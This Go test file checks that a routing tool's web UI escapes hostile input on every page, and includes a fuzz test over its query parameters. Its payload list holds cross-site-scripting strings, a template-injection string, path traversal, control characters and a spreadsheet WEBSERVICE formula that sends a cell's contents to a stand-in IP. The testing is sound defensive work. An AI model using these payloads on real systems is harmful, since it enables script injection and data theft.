package web_test

import (
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/warmroute/warmroute/engine"
	"github.com/warmroute/warmroute/pricing"
	"github.com/warmroute/warmroute/web"
)

// hostile is what a caller might send where a page shows it.
var hostile = []string{
	`<img src=y onload=beep(1) onerror=beep(1)>`,
	`"></a><script>beep(2)</script>`,
	`<svg onload=beep(3)>`,
	`' onmouseover='beep(4)`,
	`javascript:beep(5)`,
	`{{.Title}}</td></table><h1>owned</h1>`,
	"</title><body onload=beep(6)>",
	`=WEBSERVICE("http://203.0.113.7/"&A1)`,
	"a\x00b\r\n\x1b[31mred",
	"left\u202egnp.exe",
	"\xff\xfe not utf-8 <b>",
	strings.Repeat("<b>", 80),
	`&lt;already&gt;&amp;`,
	"/ui/../../etc?x=1&y=2#frag",
}

// hostileBooks has the text in every field that a caller or a vendor fills.
func hostileBooks(t testing.TB, text string) shelf {
	s := &story{catalog: prices(t)}
	for range 2 {
		b := s.tell(scene{session: text, class: engine.ClassExplicit, client: text, ago: time.Minute, model: sonnet, vendor: "bedrock", outcome: engine.Promoted, detail: engine.Detail(text),
			pinned: "bedrock", moved: "anthropic", usage: pricing.Usage{Input: 20, CacheRead: 4000, Output: 9}})
		b.ID += text
		b.Tenant, b.Parent, b.Target, b.Scope, b.Model, b.Catalog = text, text, text, text, text, text
		b.Prompt.Basis = text
		b.Verdict.Rivals = append(b.Verdict.Rivals, pricing.Rival{Vendor: text})
		b.Order = append(b.Order, engine.BookedCandidate{Model: text, Vendor: text, Credential: text})
		b.Attempts[0].RawUsage, b.Attempts[0].Priced, b.Attempts[0].Region, b.Attempts[0].Speed = []byte(text), text, text, text
		b.Attempts[0].Sides = []engine.BookedSide{{Kind: text, Model: text, Usage: pricing.Usage{Input: 3}}}
		b.Attempts[0].ServedModel, b.Attempts[0].ServedTier, b.Attempts[0].Model, b.Attempts[0].Credential, b.Attempts[0].Vendor = text, text, text, text, text
		b.Attempts = append(b.Attempts, engine.BookedAttempt{Vendor: text, Model: text, Stage: engine.Stage(text), Failure: engine.Failure(text), Status: 500, Accepted: true, Quality: pricing.Quality(text)})
	}
	s.turns[1].Outcome = engine.Outcome(text)
	return s.turns
}

func TestClientTextIsShownAsTextOnEveryPage(t *testing.T) {
	for _, text := range hostile {
		books := hostileBooks(t, text)
		o := options(books, prices(t))
		o.Status = func() web.Status { return web.Status{Problem: text} }
		e := url.QueryEscape(text)
		clean := map[string]string{}
		for _, address := range []string{"/ui/", "/ui/sessions", "/ui/turns", "/ui/misses?cause=" + e, "/ui/routes?vendor=" + e, "/ui/?zone=" + e, "/ui/session?tenant=" + e + "&class=explicit&id=" + e, "/ui/turn?tenant=" + e + "&id=" + url.QueryEscape(books[0].ID),
			"/ui/turns?session=" + e + "&outcome=" + e + "&range=" + e, "/ui/sessions?session=" + e + "&after=" + e, "/ui/?model=" + e + "&vendor=" + e + "&tenant=" + e, "/ui/turn?id=" + e} {
			page := get(t, o, address).Body.String()
			clean[address] = page
			for _, bad := range []string{"<img src=y", "<script>", "<svg onload", "<b>", "<h1>owned", "<body onload", "\x00", "\x1b", "\u202e", "\xff", ` onmouseover='beep`, `href="javascript:`, `href="=`} {
				if strings.Contains(page, bad) {
					t.Errorf("%q is markup on %s: %q", text, address, bad)
				}
			}
			if n := strings.Count(page, "<body>"); n != 1 {
				t.Errorf("%s has %d bodies", address, n)
			}
		}
		if page := clean["/ui/session?tenant="+e+"&class=explicit&id="+e]; !strings.Contains(page, "Path by turn") {
			t.Errorf("the session named %q is not found by its own link", text)
		}
	}
}

func FuzzAddresses(f *testing.F) {
	books, c := seeded(f)
	pages := options(books[:40], c)
	for _, text := range append(hostile, "/ui/?range=1h", "after=3", "%zz", "tenant=a&tenant=b") {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, query string) {
		for _, path := range []string{"/ui/", "/ui/turns", "/ui/sessions", "/ui/session", "/ui/turn", "/ui/misses", "/ui/routes"} {
			page := get(t, pages, path+"?"+url.Values{"session": {query}, "vendor": {query}, "range": {query}, "id": {query}, "class": {query}, "cause": {query}, "zone": {query}}.Encode()).Body.String()
			if !strings.HasSuffix(page, "</html>\n") || strings.Count(page, "<main") != 1 {
				t.Errorf("%s with %q is not a whole page", path, query)
			}
		}
	})
}
